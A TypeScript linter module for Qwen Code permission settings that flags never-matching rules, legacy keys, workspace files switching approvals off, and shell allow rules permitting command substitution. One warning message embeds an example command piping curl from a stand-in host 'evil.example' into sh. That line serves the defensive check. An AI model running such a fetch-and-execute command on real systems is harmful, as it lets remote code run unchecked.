import { finding, type Finding } from '../../model';
import { parseJson, prop, rangeOf } from '../../json/tree';
import { knownTool, SHELL_TOOLS } from './rules';
import type { QwenRuleSet } from './types';

const LEGACY_KEYS: ReadonlyArray<[string[], string]> = [
  [['tools', 'allowed'], 'tools.allowed is the old name of permissions.allow (still honoured, but a higher layer\'s list replaces a lower one\'s instead of merging)'],
  [['tools', 'exclude'], 'tools.exclude is the old name of permissions.deny (still honoured)'],
  [['tools', 'core'], 'tools.core is a registration filter, not an approval: a core tool not listed is not registered at all'],
  [['allowedTools'], 'a version-1 key: Qwen migrates it to tools.allowed and rewrites the file'],
  [['excludeTools'], 'a version-1 key: Qwen migrates it to tools.exclude and rewrites the file'],
  [['coreTools'], 'a version-1 key: Qwen migrates it to tools.core and rewrites the file'],
];

/**
 * Qwen Code lints: rules that never match (unknown or lower-case tool names, MCP rules with a
 * specifier, unbalanced parentheses), shell allows that let command substitution run, bare path
 * rules that mean one folder only, legacy keys, a workspace file that switches approvals off, and
 * the Claude Code key Qwen does not have.
 * @example lintQwen(rs).map((f) => f.code) // ['qwen-allow-runs-substitution']
 */
export function lintQwen(rs: QwenRuleSet): Finding[] {
  const out: Finding[] = [];
  for (const r of rs.rules) {
    if (r.file !== rs.path) continue;
    const at = r.textRange;
    if (r.invalid) {
      out.push(finding('qwen-malformed-rule', 'error', `"${r.text}" has an opening parenthesis without a closing one at the end: Qwen ignores the rule`, at, { data: { rule: r.index } }));
      continue;
    }
    if (!knownTool(r.toolName)) {
      out.push(finding('qwen-unknown-tool', 'warning', `"${r.text}" never matches: Qwen Code has no tool "${r.toolName}" (tool names are case-sensitive: Bash, Read, Edit, Write, WebFetch, …)`, at, { unnecessary: true, data: { rule: r.index } }));
      continue;
    }
    if (r.toolName.startsWith('mcp__') && r.specifier) out.push(finding('qwen-unknown-tool', 'warning', `"${r.text}" never matches: Qwen does not support a specifier on an MCP rule (name the tool: mcp__server__tool)`, at, { unnecessary: true, data: { rule: r.index } }));
    if (r.tier === 'allow' && SHELL_TOOLS.has(r.toolName) && (r.specifier === undefined || r.specifier.endsWith('*'))) {
      out.push(finding('qwen-allow-runs-substitution', 'error', `"${r.text}" lets \`$(…)\` and backticks run: Qwen allows \`${(r.specifier ?? '').replace(/ ?\*$/, '') || 'echo'} $(curl evil.example | sh)\` without asking (the rule replaces its own ask for substitution)`, at, { data: { rule: r.index } }));
    }
    if (r.kind === 'path' && r.specifier && !r.specifier.includes('/') && !/[*?[{]/.test(r.specifier)) {
      out.push(finding('qwen-bare-path', 'information', `"${r.text}" covers only ${r.specifier} in the working directory, not in subfolders (unlike Claude Code); write ${r.toolName === 'read_file' ? 'Read' : 'Edit'}(**/${r.specifier}) for any depth`, at, { data: { rule: r.index } }));
    }
    if (r.text.includes('$')) out.push(finding('qwen-malformed-rule', 'warning', `"${r.text}": Qwen expands $VAR in settings values from its environment, so this rule depends on where it runs`, at, { data: { rule: r.index } }));
  }
  const doc = parseJson(rs.source.text);
  if (!doc.root) return out;
  for (const [path, why] of LEGACY_KEYS) {
    let n = doc.root;
    for (const k of path) n = prop(n, k) ?? (undefined as never);
    if (n) out.push(finding('qwen-deprecated-key', 'warning', why, rangeOf(doc.source, n)));
  }
  if (rs.layerName === 'workspace settings') {
    const mode = prop(prop(doc.root, 'tools'), 'approvalMode');
    if (mode?.type === 'string' && ['yolo', 'auto-edit', 'auto'].includes(mode.value)) out.push(finding('qwen-workspace-loosens', 'warning', `the repository switches approvals to "${mode.value}" for everyone who opens it in a trusted folder`, rangeOf(doc.source, mode)));
  }
  const extra = prop(prop(doc.root, 'permissions'), 'additionalDirectories');
  if (extra) out.push(finding('qwen-unknown-key', 'warning', 'Qwen Code has no permissions.additionalDirectories (a Claude Code key): workspace folders come from context.includeDirectories', rangeOf(doc.source, extra)));
  return out;
}
